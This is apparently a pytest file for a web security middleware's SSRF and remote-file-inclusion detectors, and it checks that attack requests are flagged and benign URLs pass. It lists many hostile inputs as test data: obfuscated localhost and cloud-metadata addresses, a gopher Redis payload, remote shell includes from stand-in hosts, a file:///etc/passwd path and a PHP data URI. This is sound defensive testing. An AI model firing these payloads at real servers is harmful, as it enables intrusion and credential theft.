"""Remote file inclusion (931xxx) and server-side request forgery (934120/934190-934192).

The ``detect_ssrf`` operator is tested on its own (address spellings, host
names, parser confusion, public URLs that must pass), then through whole
requests.
"""

from __future__ import annotations

import ipaddress
from typing import Any

import pytest
from detect_harness import Req, asgi_signals, engine_signals, fired, rule_examples, types
from hypothesis import given, settings
from hypothesis import strategies as st

from devsecmw.engine import ssrf
from devsecmw.engine.rules import Rule
from devsecmw.request import percent_decode


@pytest.mark.parametrize(("rule", "example", "should_match"), rule_examples("931-rfi.json", "934-ssrf.json"))
def test_rule_examples(rule: Rule, example: str, should_match: bool) -> None:
    assert (rule.matches_value(example) is not None) is should_match


# --------------------------------------------------------------------------- the operator
@pytest.mark.parametrize(
    ("host", "address"),
    [
        ("127.0.0.1", "127.0.0.1"),
        ("2130706433", "127.0.0.1"),
        ("0177.0.0.1", "127.0.0.1"),
        ("0x7f.1", "127.0.0.1"),
        ("127.1", "127.0.0.1"),
        ("0xA9FEA9FE", "169.254.169.254"),
        ("169.254.43518", "169.254.169.254"),
        ("7147006462", "169.254.169.254"),  # more than 32 bits: the low 32 bits, as some clients do
        ("0x41414141A9FEA9FE", "169.254.169.254"),
    ],
)
def test_parse_ipv4_spellings(host: str, address: str) -> None:
    parsed = ssrf.parse_ipv4(host)
    assert parsed is not None and parsed[0] == ipaddress.IPv4Address(address)


@pytest.mark.parametrize(
    "value",
    [
        "http://169.254.169.254/latest/meta-data/",
        "http://[::1]/",
        "http://[::ffff:127.0.0.1]/",
        "http://[0:0:0:0:0:ffff:7f00:1]/",
        "http://[fd00:ec2::254]/",
        "http://[fe80::%zone1]/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://100.100.100.200/latest/meta-data/",
        "http://192.0.0.192/latest/",
        "http://localtest.me/",
        "http://127.0.0.1.nip.io/",
        "http://10-0-0-1.sslip.io/",
        "http://foo.localhost/",
        "http://trusted.example@127.0.0.1/",
        "http://google.com:80 &@google.com:80# @127.88.23.245:22/",
        "http:127.0.0.1",
        "http:/2852039166",
        "gopher://x:70/_",
        "jar:http://evil.example/b.zip!/a",
        "acap://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460",
        "http://169\u3002254\u3002169\u3002254/",
        "http://\\l\\o\\c\\a\\l\\h\\o\\s\\t/",
    ],
)
def test_detect_internal_urls(value: str) -> None:
    assert ssrf.detect(value) is not None


@pytest.mark.parametrize(
    "value",
    [
        "https://example.com/webhook",
        "https://hooks.slack.com/services/T000/B000/XXX",
        "https://cdn.example.com/u/1/avatar.png?size=64",
        "http://93.184.216.34/",
        "https://8.8.8.8.nip.io/",
        "https://user@example.com/",
        "https://10.example.com/",
        "https://api.internal-tools.example.com/",
        "https://www.google.com/search?q=127.0.0.1",
        "see http://localhost:3000 for the docs",
        "2130706433",
        "4155550123",
        "192.168.1.1",
        "Note: the meeting is at 10:30",
        "mailto:someone@example.com",
    ],
)
def test_detect_passes_public_urls_and_plain_values(value: str) -> None:
    assert ssrf.detect(value) is None


def test_detect_anywhere_finds_urls_in_text() -> None:
    assert ssrf.detect_anywhere("see http://localhost:3000 for the docs") is not None
    assert ssrf.detect_anywhere("see https://example.com for the docs") is None


def test_unknown_operator_parameter_is_an_error() -> None:
    with pytest.raises(ValueError, match="detect_ssrf"):
        ssrf.make_detector({"where": "sometimes"})


@settings(max_examples=300, deadline=None)
@given(
    st.text(alphabet=st.sampled_from(list("htp:/[]@#&.0123456789abcdefx%\\ \u2460\u3002lo")), max_size=120)
)
def test_detect_is_total(value: str) -> None:
    span = ssrf.detect(value)
    assert span is None or 0 <= span[0] <= span[1] <= len(value)
    ssrf.detect_anywhere(value)


def test_raw_utf8_query_bytes_are_decoded() -> None:
    """Clients that send raw UTF-8 in the query: the value is the text, not latin-1 mojibake."""
    raw = "acap://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460".encode().decode("latin-1")
    assert percent_decode(raw) == ("acap://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460", True)
    assert percent_decode("caf%E9") == ("caf\xe9", False)


# --------------------------------------------------------------------------- whole requests
ATTACKS = [
    (Req.query("url", "http://169.254.169.254/latest/meta-data/iam/"), "ssrf", "query:url", "934190"),
    (Req.form("webhook", "http://0x7f.1:6379/"), "ssrf", "body:form:webhook", "934190"),
    (
        Req.json_body({"image": {"src": "http://[::ffff:a9fe:a9fe]/x"}}),
        "ssrf",
        "body:json:image.src",
        "934190",
    ),
    (Req.query("u", "gopher://127.0.0.1:6379/_INFO"), "ssrf", "query:u", "934120"),
    (Req.query("u", "http://example.com/@evil.com/"), "ssrf", "query:u", "934192"),
    (
        Req(
            "/api/fetch", "POST", body=b"<r><url>http://2852039166/</url></r>", content_type="application/xml"
        ),
        "ssrf",
        "body",
        "934190",
    ),
    (Req.query("src", "http://66.240.183.75/crash.php"), "rfi", "query:src", "931100"),
    (Req("/plugins/BaseAdmin.class.php?_CONF[path]=https://evil.example/x.txt?"), "rfi", "uri", "931110"),
    (Req.query("page", "http://evil.example/shell.txt?"), "rfi", "query:page", "931120"),
    (Req.query("inc", "http://evil.example/c99.txt"), "rfi", "query:inc", "931125"),
    (Req.path("/get/file:///etc/passwd"), "rfi", "path", "931130"),
    (Req.query("f", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+"), "php", "query:f", "933140"),
]


@pytest.mark.parametrize(("req", "type_", "location", "rule_id"), ATTACKS)
def test_attack_detected(req: Req, type_: str, location: str, rule_id: str) -> None:
    assert (type_, location, rule_id) in fired(engine_signals(req))


BENIGN = [
    Req.query("redirect_uri", "https://app.example.com/oauth/callback"),
    Req.query("next", "/account/billing?tab=invoices"),
    Req.form("website", "https://www.example.org/about"),
    Req.json_body({"webhook_url": "https://hooks.example.com/T0/B1/abc", "events": ["order.paid"]}),
    Req.json_body(
        {"avatar": "https://cdn.example.com/u/12/a.png", "banner": "data:image/png;base64,iVBORw0KGgo="}
    ),
    Req.json_body({"message": "The dev server is on http://localhost:3000, see the README"}),
    Req.query("phone", "4155550123"),
    Req.query("ip", "192.168.1.1"),
    Req.path("/medium/@alice/my-post"),
    Req.query("profile", "https://medium.com/@alice/my-post"),
]


@pytest.mark.parametrize("req", BENIGN)
def test_benign_urls_pass(req: Req) -> None:
    assert not types(engine_signals(req)) & {"ssrf", "rfi", "php"}


def test_through_the_asgi_middleware(otel: Any) -> None:
    events = asgi_signals(Req.query("next", "http://127.0.0.1.nip.io:8080/admin"), otel)
    hits = {
        (e["devsecmw.signal.type"], e["devsecmw.signal.location"], e.get("security_rule.uuid"))
        for e in events
    }
    assert ("ssrf", "query:next", "934190") in hits


def test_paranoia_2_finds_internal_urls_inside_text() -> None:
    req = Req.json_body({"message": "fetch http://169.254.169.254/latest/meta-data/ now"})
    assert "ssrf" not in types(engine_signals(req, paranoia=1))
    assert ("ssrf", "body:json:message", "934191") in fired(engine_signals(req, paranoia=2))
